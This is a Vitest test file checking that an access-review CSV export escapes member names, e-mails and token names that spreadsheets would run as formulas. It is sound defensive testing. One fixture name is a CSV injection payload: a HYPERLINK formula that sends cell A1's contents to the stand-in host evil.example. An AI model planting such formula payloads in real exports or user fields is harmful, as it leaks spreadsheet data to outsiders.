import { describe, expect, it } from "vitest";
import { createUser, createWorkspace } from "~/db/seed/factories";
import { createToken } from "~/server/tokens/tokens.service";
import { callerFor } from "~/test/helpers";
import { accessReviewCsv } from "~/server/shared/access-review.csv";

describe("governance.accessReview CSV", () => {
  it("neutralises member names, e-mails and token names a spreadsheet would run as formulas", async () => {
    const evil = await createUser({ name: '=HYPERLINK("http://evil.example/?"&A1,"open")', email: `-x${Date.now()}@test.steward.local` });
    const { workspace, owner, members } = await createWorkspace({ members: [{ role: "admin", user: evil }] });
    await createToken(members[0]!.wsActor, { workspaceId: workspace.id, name: "@SUM(1+1)", role: "viewer" });
    const review = await callerFor(owner).governance.accessReview({ workspaceId: workspace.id });
    const csv = accessReviewCsv(review);
    const [header, ...rows] = csv.trimEnd().split("\n");
    expect(header).toBe("name,email,role,member_since,last_sign_in,last_activity,active_tokens");
    const row = rows.find((r) => r.includes("evil.example"))!;
    expect(row).toMatch(/^"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""open""\)",'-x\d+@test\.steward\.local,admin,/);
    expect(row).toMatch(/,'@SUM\(1\+1\) \(viewer\)$/);
    // Nothing else starts a cell with a formula character.
    for (const r of rows) for (const cell of r.split(",")) expect(cell.replace(/^"/, ""), cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
